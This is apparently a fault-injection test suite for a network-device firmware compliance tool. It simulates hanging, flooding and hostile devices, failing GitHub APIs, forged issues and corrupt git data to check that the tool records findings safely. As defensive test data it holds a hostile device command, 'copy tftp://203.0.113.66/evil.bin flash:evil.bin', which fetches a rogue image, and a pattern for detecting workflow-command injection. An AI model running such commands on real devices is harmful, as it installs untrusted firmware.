/**
 * Fault injection: devices that hang, drop, flood, lie about their key or answer with terminal escapes and
 * workflow commands; a GitHub that fails or stalls; git that cannot give a ref or an object. Each time the run
 * completes, nothing unverified counts as compliant, the findings are on disk, and the report names what was
 * not covered.
 */
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { memoryIo } from '../../src/cli/io.js';
import { reconcileRepo } from '../../src/cli/reconcile.js';
import { runCli } from '../../src/cli/run.js';
import { collect } from '../../src/collect/index.js';
import { buildDemoRepo, DemoClock, playTamper, TAMPERED, TIMES, UPGRADED } from '../../src/demo/scenario.js';
import { GitHubError } from '../../src/errors.js';
import { GitRepo } from '../../src/git/index.js';
import { createOctokit } from '../../src/github/client.js';
import { syncFindingIssues } from '../../src/github/issues.js';
import type { RepoModel } from '../../src/model/repo.js';
import type { StateFile } from '../../src/model/state.js';
import { issueItem, windowVerdicts } from '../../src/report/index.js';
import { loadGitRef } from '../../src/repo/index.js';
import { SIM_PASSWORD, startFleet, type Fleet, type Misbehaviour } from '../../src/sim/index.js';
import { startFakeGitHub, type FakeGitHub } from '../support/fake-github.js';

const ROOT = join(import.meta.dirname, '..', '..');
const ENV = { IMAGEGATE_SSH_PASSWORD: SIM_PASSWORD };
let dir: string;
let repoDir: string;
let model: RepoModel;
let fleet: Fleet;
let clock: DemoClock;
let demoMerge: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ig-faults-'));
  repoDir = join(dir, 'repo');
  demoMerge = buildDemoRepo(ROOT, repoDir).merge;
  const head = await loadGitRef(new GitRepo(repoDir), 'HEAD');
  if (!head.model) throw new Error('the example fleet did not load');
  model = head.model;
  clock = new DemoClock(TIMES.base);
  // the fleet runs what HEAD approves: every device that answers is compliant
  fleet = await startFleet(model.devices, model.catalog, { logDir: join(dir, 'logs'), clock: clock.now, hugeOutputBytes: 100 * 1024 * 1024 });
});
afterAll(async () => {
  await fleet.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Short enough for a hanging device to cost little, long enough for a healthy one on a busy CI machine. */
async function collectAll(): Promise<StateFile> {
  clock.set(TIMES.collect);
  return collect(model.devices, model.catalog, { sshConfig: fleet.sshConfig(), env: ENV, clock: clock.now, timeoutSeconds: 3, concurrency: 20 });
}

function misbehave(modes: Record<string, Misbehaviour>): () => void {
  for (const [name, mode] of Object.entries(modes)) fleet.device(name).misbehave(mode);
  return () => {
    for (const name of Object.keys(modes)) fleet.device(name).misbehave(null);
  };
}

/** A line the Actions runner would take for a workflow command (it trims leading white space first). */
const WORKFLOW_COMMAND = /^\s*::[a-z-]+/m;

describe('devices that misbehave', () => {
  const MODES: Record<string, Misbehaviour> = {
    [UPGRADED]: 'hang-after-banner',
    'fra1-core-01': 'drop-mid-output',
    'fra1-edge-01': 'huge-output',
    'nyc1-core-02': 'hostile-output',
    'nyc1-wan-01': 'wrong-host-key',
    // IOS and IOS-XE answer in an interactive session: the cap and the escaping hold there too
    'nyc1-oob-01': 'huge-output',
    'nyc1-access-02': 'hostile-output',
  };
  const REASONS: Record<string, string> = {
    [UPGRADED]: 'timeout',
    'fra1-core-01': 'unreachable',
    'fra1-edge-01': 'unparsable',
    'nyc1-core-02': 'unparsable',
    'nyc1-wan-01': 'host-key-mismatch',
    'nyc1-oob-01': 'unparsable',
    'nyc1-access-02': 'unparsable',
  };

  test('the run completes; each is unverified with its reason and a finding; the report names them; the rest verify', async () => {
    const restore = misbehave(MODES);
    let states: StateFile;
    try {
      states = await collectAll();
    } finally {
      restore();
    }
    const bad = Object.keys(MODES);
    expect(Object.fromEntries(states.devices.filter((d) => d.status !== 'ok').map((d) => [d.device, d.reason]))).toEqual(REASONS);
    // 100 MB were offered; the collector stopped at its cap instead of buffering them
    for (const name of ['fra1-edge-01', 'nyc1-oob-01']) expect(states.devices.find((d) => d.device === name)?.detail).toMatch(/more than \d+ bytes/);
    expect(states.devices.find((d) => d.device === 'nyc1-wan-01')?.presentedHostKey).toMatch(/^SHA256:/);

    const r = await reconcileRepo({ repoDir, ref: 'HEAD', states, eventFiles: [], at: TIMES.collect, generatedAt: TIMES.collect, warn: () => undefined });
    expect(r.result.coverage.verified).toBe(model.devices.length - bad.length);
    expect(r.result.coverage.unverified.map((u) => u.device).sort()).toEqual([...bad].sort());
    const unverified = r.result.findings.filter((f) => f.rule === 'unverified');
    expect(unverified.map((f) => f.device).sort()).toEqual([...bad].sort());
    expect(unverified.find((f) => f.device === 'nyc1-wan-01')?.severity).toBe('high');
    expect(r.markdown).toMatch(/Unverified \(never counted as compliant\)/);
    for (const name of bad) expect(r.markdown).toContain(name);
    // the upgraded device's window cannot be confirmed while the device does not answer
    const verdict = windowVerdicts(r.result, r.ledger.authorizations).find((v) => v.device === UPGRADED);
    expect(verdict).toMatchObject({ ok: false, verified: false });
    expect(verdict?.comment).toMatch(/Not verified/);
  });

  test('terminal escapes and workflow commands from a device reach no report, findings file or stdout as such', async () => {
    const restore = misbehave({ 'nyc1-core-02': 'hostile-output' });
    let states: StateFile;
    try {
      states = await collectAll();
    } finally {
      restore();
    }
    const path = join(dir, 'hostile-state.json');
    writeFileSync(path, JSON.stringify(states));
    for (const format of ['md', 'json']) {
      const io = memoryIo({}, dir);
      const code = await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', path, '--format', format, '--fail-on', 'none'], io);
      expect(code).toBe(0);
      expect(io.out).toContain('nyc1-core-02');
      for (const text of [io.out, io.err]) {
        expect(text).not.toMatch(WORKFLOW_COMMAND);
        expect(text).not.toContain('\u001b');
      }
    }
  });

  test('a flapping device: an open finding stays open while the device cannot be read, and is not filed twice', async () => {
    const fake = await startFakeGitHub();
    try {
      fake.repo('acme/network');
      const env = { GITHUB_TOKEN: fake.token, GITHUB_REPOSITORY: 'acme/network', GITHUB_API_URL: fake.url, IMAGEGATE_GITHUB_NO_WAIT: '1' };
      playTamper(fleet, clock, TIMES.tamper);
      const runs: Array<{ code: number; open: string[] }> = [];
      for (const mode of ['tampered-image', 'hang', 'tampered-image'] as const) {
        fleet.device(TAMPERED).misbehave(mode);
        const states = await collectAll();
        const path = join(dir, 'flap-state.json');
        writeFileSync(path, JSON.stringify(states));
        const io = memoryIo(env, dir);
        const code = await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', path, '--out', 'flap.md', '--findings', 'flap.json', '--github', '--fail-on', 'none'], io);
        const open = [...fake.repo('acme/network').issues.values()].filter((i) => i.state === 'open').map((i) => i.title).sort();
        runs.push({ code, open });
      }
      const hash = (titles: string[]) => titles.filter((t) => t.includes('hash-mismatch'));
      expect(runs.map((r) => r.code)).toEqual([0, 0, 0]);
      expect(hash(runs[0]!.open)).toHaveLength(1);
      // unreachable: not verified, so not resolved: the issue stays open, and an unverified finding joins it
      expect(hash(runs[1]!.open)).toEqual(hash(runs[0]!.open));
      expect(runs[1]!.open.some((t) => t.includes('unverified') && t.includes(TAMPERED))).toBe(true);
      expect(hash(runs[2]!.open)).toEqual(hash(runs[0]!.open));
      expect([...fake.repo('acme/network').issues.values()].filter((i) => i.title.includes('hash-mismatch'))).toHaveLength(1);
      expect(fake.violations).toEqual([]);
    } finally {
      fleet.device(TAMPERED).misbehave('tampered-image');
      await fake.close();
    }
  });
});

describe('GitHub that fails', () => {
  let fake: FakeGitHub;
  let state: string;
  beforeAll(async () => {
    // one unreadable device: a finding to file
    const restore = misbehave({ 'nyc1-core-02': 'hostile-output' });
    try {
      state = join(dir, 'gh-state.json');
      writeFileSync(state, JSON.stringify(await collectAll()));
    } finally {
      restore();
    }
  });
  beforeEach(async () => {
    fake = await startFakeGitHub();
    fake.repo('acme/network');
  });
  afterEach(() => fake.close());
  const env = (): NodeJS.ProcessEnv => ({ GITHUB_TOKEN: fake.token, GITHUB_REPOSITORY: 'acme/network', GITHUB_API_URL: fake.url, IMAGEGATE_GITHUB_NO_WAIT: '1' });
  const run = async (findings: string) => {
    const io = memoryIo(env(), dir);
    const code = await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', state, '--out', 'gh.md', '--findings', findings, '--github', '--fail-on', 'none'], io);
    return { code, err: io.err };
  };

  test.each([
    [500, {}],
    [502, {}],
    [403, { 'retry-after': '1' }],
  ] as const)('HTTP %s on every call: exit 2 naming the status, findings on disk, no token in the output', async (status, headers) => {
    fake.failNext(1000, status, headers);
    const findings = `gh-${status}.json`;
    const r = await run(findings);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`HTTP ${status}`);
    expect(r.err).not.toContain(fake.token);
    const file = JSON.parse(readFileSync(join(dir, findings), 'utf8')) as { version: number; findings: Array<{ rule: string; device: string }>; coverage: { unverified: Array<{ device: string }> } };
    expect(file.version).toBe(1);
    expect(file.findings).toEqual(expect.arrayContaining([expect.objectContaining({ rule: 'unverified', device: 'nyc1-core-02' })]));
    expect(file.coverage.unverified.map((u) => u.device)).toEqual(['nyc1-core-02']);
  });

  test.each([
    [500, {}],
    [502, {}],
    [403, { 'retry-after': '1' }],
  ] as const)('HTTP %s twice, then answers: retried, every finding filed once', async (status, headers) => {
    fake.failNext(2, status, headers);
    const findings = `gh-retry-${status}.json`;
    const r = await run(findings);
    expect(r.code).toBe(0);
    const n = (JSON.parse(readFileSync(join(dir, findings), 'utf8')) as { findings: unknown[] }).findings.length;
    expect(n).toBeGreaterThan(0);
    expect(r.err).toContain(`${n} created`);
    expect(fake.requests.filter((q) => q.injected)).toHaveLength(2);
    expect(fake.repo('acme/network').issues.size).toBe(n);
  });

  test('a GitHub that never answers: each call times out, is retried, then fails as a GitHubError', async () => {
    fake.failNext(1000, 'timeout');
    const client = createOctokit({ token: fake.token, baseUrl: fake.url, noWait: true, timeoutMs: 200, retries: 2 });
    const r = await reconcileRepo({ repoDir, ref: 'HEAD', states: JSON.parse(readFileSync(state, 'utf8')) as StateFile, eventFiles: [], at: TIMES.collect, generatedAt: TIMES.collect, warn: () => undefined });
    const t0 = Date.now();
    const err = await syncFindingIssues({
      client,
      repo: { owner: 'acme', repo: 'network' },
      items: r.result.findings.map((f) => issueItem(f, r.result.at)),
      unverifiedDevices: r.result.coverage.unverified.map((u) => u.device),
      windows: [],
      resolvedComment: 'resolved',
      viewer: null,
      writeIntervalMs: 0,
    }).then(
      () => null,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(GitHubError);
    expect(String((err as Error).message)).toMatch(/timed out|timeout/i);
    expect((err as Error).message).not.toContain(fake.token);
    expect(Date.now() - t0).toBeLessThan(10_000);
  });
});

test('an issue someone else forged with a finding marker and closed as not planned does not suppress the finding', async () => {
  const fake = await startFakeGitHub();
  try {
    const gh = fake.repo('acme/network');
    fake.addPull('acme/network', { number: 42, user: 'alice', state: 'closed', head: { ref: 'upgrade', sha: 'a'.repeat(40) }, mergeCommitSha: demoMerge, mergedAt: '2026-12-01T10:00:00Z' });
    const state = join(dir, 'forge-state.json');
    writeFileSync(state, JSON.stringify({ version: 1, kind: 'imagegate-state', generatedAt: TIMES.collect, devices: [] }));
    const first = memoryIo({}, dir);
    await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', state, '--format', 'json', '--fail-on', 'none'], first);
    const findings = (JSON.parse(first.out) as { findings: Array<{ fingerprint: string }> }).findings;
    expect(findings.length).toBeGreaterThan(0);
    // mallory (triage rights, not the tool) files look-alikes of every finding and closes them as not planned
    for (const f of findings) {
      const number = gh.nextNumber++;
      gh.issues.set(number, {
        number, title: 'noise', body: `<!-- imagegate:finding:${f.fingerprint} -->\n<!-- imagegate:evidence:${'0'.repeat(64)} -->`, state: 'closed', stateReason: 'not_planned',
        labels: ['imagegate'], user: 'mallory', createdAt: '2026-12-12T00:00:00Z', updatedAt: '2026-12-12T00:00:00Z', closedAt: '2026-12-12T00:00:00Z',
      });
    }
    fake.account('mallory');
    const io = memoryIo({ GITHUB_TOKEN: fake.token, GITHUB_REPOSITORY: 'acme/network', GITHUB_API_URL: fake.url, IMAGEGATE_GITHUB_NO_WAIT: '1' }, dir);
    expect(await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', state, '--out', 'forge.md', '--github', '--fail-on', 'none'], io)).toBe(0);
    expect(io.err).toContain(`github: ${findings.length} created`);
    expect(io.err).toContain('0 suppressed');
    expect([...gh.issues.values()].filter((i) => i.user !== 'mallory' && i.state === 'open')).toHaveLength(findings.length);
  } finally {
    await fake.close();
  }
});

describe('a state file that lies about its shape', () => {
  test.each([
    [{ version: { version: 5 } }, /facts\.version\.version is not a string/],
    [{ version: { version: '4.31.2F' }, boot: { boot: 'flash:x' } }, /facts\.boot\.boot is not a list/],
    [{ version: { version: '4.31.2F' }, hash: { file: 1, digest: null } }, /facts\.hash\.file is not a string/],
    [{}, /status is ok but facts\.version names neither/],
  ])('%j: exit 2 naming the device, never an internal error or a verified device', async (facts, message) => {
    const path = join(dir, 'shape-state.json');
    const state = { version: 1, kind: 'imagegate-state', generatedAt: TIMES.collect, devices: [{ device: 'nyc1-core-01', platform: 'arista_eos', collectedAt: TIMES.collect, status: 'ok', facts }] };
    writeFileSync(path, JSON.stringify(state));
    const io = memoryIo({}, dir);
    const code = await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', path, '--fail-on', 'none'], io);
    expect(code).toBe(2);
    expect(io.err).toMatch(/devices\[0\] \(nyc1-core-01\)/);
    expect(io.err).toMatch(message);
    expect(io.err).not.toMatch(/internal error/);
  });
});

describe('an NDJSON events file with fields of the wrong type', () => {
  const event = { ts: '2026-12-12T14:20:00.000Z', device: 'fra1-access-02', host: '192.0.2.32', kind: 'transfer', actor: 'admin', command: 'copy tftp://203.0.113.66/evil.bin flash:evil.bin', file: 'evil.bin', protocol: 'tftp', direction: 'download', source: { path: 'tacacs.acct', line: 1, format: 'tacacs' }, raw: 'r', clock: 'synced' };
  test.each([{ device: 7 }, { actor: {} }, { file: 5 }, { command: [] }, { pattern: 9 }])('%j: the line is skipped and counted, the good line is judged, no internal error', async (bad) => {
    const state = join(dir, 'nd-state.json');
    writeFileSync(state, JSON.stringify({ version: 1, kind: 'imagegate-state', generatedAt: TIMES.collect, devices: [] }));
    writeFileSync(join(dir, 'events.ndjson'), `${JSON.stringify(event)}\n${JSON.stringify({ ...event, ...bad })}\n`);
    const io = memoryIo({}, dir);
    const code = await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', state, '--events', 'events.ndjson', '--format', 'json', '--fail-on', 'none'], io);
    expect([code, io.err]).toEqual([0, expect.not.stringMatching(/internal error/)]);
    const out = JSON.parse(io.out) as { coverage: { eventFiles: Array<{ lines: number; events: number; skipped: number }> }; findings: Array<{ rule: string; device: string }> };
    expect(out.coverage.eventFiles).toEqual([expect.objectContaining({ lines: 2, events: 1, skipped: 1 })]);
    expect(out.findings).toEqual(expect.arrayContaining([expect.objectContaining({ rule: 'unauthorized-transfer', device: 'fra1-access-02' })]));
  });
});

test('an NDJSON event naming a device that is not in git is resolved again by its host, not dropped', async () => {
  const state = join(dir, 'nd-state.json');
  writeFileSync(state, JSON.stringify({ version: 1, kind: 'imagegate-state', generatedAt: TIMES.collect, devices: [] }));
  const event = { ts: '2026-12-12T14:20:00.000Z', host: '192.0.2.32', kind: 'transfer', actor: 'admin', command: 'copy tftp://203.0.113.66/evil.bin flash:evil.bin', file: 'evil.bin', protocol: 'tftp', direction: 'download', source: { path: 'tacacs.acct', line: 1, format: 'tacacs' }, raw: 'r', clock: 'synced' };
  writeFileSync(join(dir, 'renamed.ndjson'), `${JSON.stringify({ ...event, device: 'old-name-01' })}\n${JSON.stringify({ ...event, device: 'old-name-02', host: 'nowhere.example' })}\n`);
  const io = memoryIo({}, dir);
  await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', state, '--events', 'renamed.ndjson', '--format', 'json', '--fail-on', 'none'], io);
  const rules = (JSON.parse(io.out) as { findings: Array<{ rule: string; device: string }> }).findings.filter((f) => f.rule !== 'unverified').map((f) => `${f.rule} ${f.device}`);
  expect(rules).toEqual(expect.arrayContaining(['unauthorized-transfer fra1-access-02', 'unknown-device nowhere.example']));
});

describe('git that fails', () => {
  let state: string;
  beforeAll(() => {
    state = join(dir, 'git-state.json');
    writeFileSync(state, JSON.stringify({ version: 1, kind: 'imagegate-state', generatedAt: TIMES.collect, devices: [] }));
  });
  test('a missing ref: exit 2 with a one-line message, no stack trace, no report', async () => {
    const io = memoryIo(ENV, dir);
    const code = await runCli(['reconcile', '--repo', repoDir, '--ref', 'no-such-branch', '--at', TIMES.collect, '--state', state, '--out', 'missing.md'], io);
    expect(code).toBe(2);
    expect(io.err).toMatch(/no-such-branch/);
    expect(io.err).not.toMatch(/\n\s+at /);
    expect(existsSync(join(dir, 'missing.md'))).toBe(false);
  });

  test('a corrupt repository (a device file object missing): exit 2, not a crash and not a clean report', async () => {
    const broken = join(dir, 'broken');
    buildDemoRepo(ROOT, broken);
    const git = new GitRepo(broken);
    const blob = (await git.raw(['rev-parse', `HEAD:devices/fra1/fra1-core-01.yaml`])).trim();
    const loose = join(broken, '.git', 'objects', blob.slice(0, 2), blob.slice(2));
    if (existsSync(loose)) unlinkSync(loose);
    else for (const f of readdirSync(join(broken, '.git', 'objects', 'pack'))) unlinkSync(join(broken, '.git', 'objects', 'pack', f));
    const io = memoryIo(ENV, dir);
    const code = await runCli(['reconcile', '--repo', broken, '--at', TIMES.collect, '--state', state, '--out', 'broken.md'], io);
    expect(code).toBe(2);
    expect(io.err).toMatch(/^imagegate: /);
    expect(io.err).not.toMatch(/internal error|\n\s+at /);
    expect(existsSync(join(dir, 'broken.md'))).toBe(false);
  });
});
